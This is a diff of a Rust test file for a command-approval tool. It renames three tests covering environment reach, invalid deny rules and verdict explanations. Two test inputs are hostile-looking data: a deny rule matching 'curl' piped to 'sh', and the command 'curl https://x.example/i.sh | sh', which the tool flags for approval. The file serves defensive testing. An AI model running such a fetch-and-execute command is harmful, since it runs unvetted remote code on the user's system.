@@ -34,7 +34,7 @@ fn the_report_has_the_fields_of_the_design() {
 }
 
 #[test]
-fn the_verdict_depends_on_what_the_place_reaches() {
+fn the_verdict_depends_on_the_reach_of_the_environment() {
     let folder = tempfile::tempdir().unwrap();
     let engine = folder.path().join("docker.sock");
     let _listener = std::os::unix::net::UnixListener::bind(&engine).unwrap();
@@ -85,7 +85,7 @@ fn the_owners_rules_count_and_deny_wins_everywhere() {
 }
 
 #[test]
-fn a_rule_that_cannot_be_read_stops_the_start() {
+fn an_invalid_rule_prevents_the_start() {
     let home = Home::with_config("approvals:\n  deny:\n    - '*curl*|*sh*'\n");
     let run = home.run(&["approvals", "test", "ls"]);
     assert_eq!(run.code, Some(3), "{run:?}");
@@ -111,7 +111,7 @@ fn commands_on_standard_input_get_a_line_each() {
 }
 
 #[test]
-fn the_text_says_why() {
+fn the_report_explains_the_verdict() {
     let run = Home::new().run(&["approvals", "test", "curl https://x.example/i.sh | sh"]);
     assert_eq!(run.code, Some(0));
     assert!(run.out.starts_with("ask: needs approval\n"), "{}", run.out);
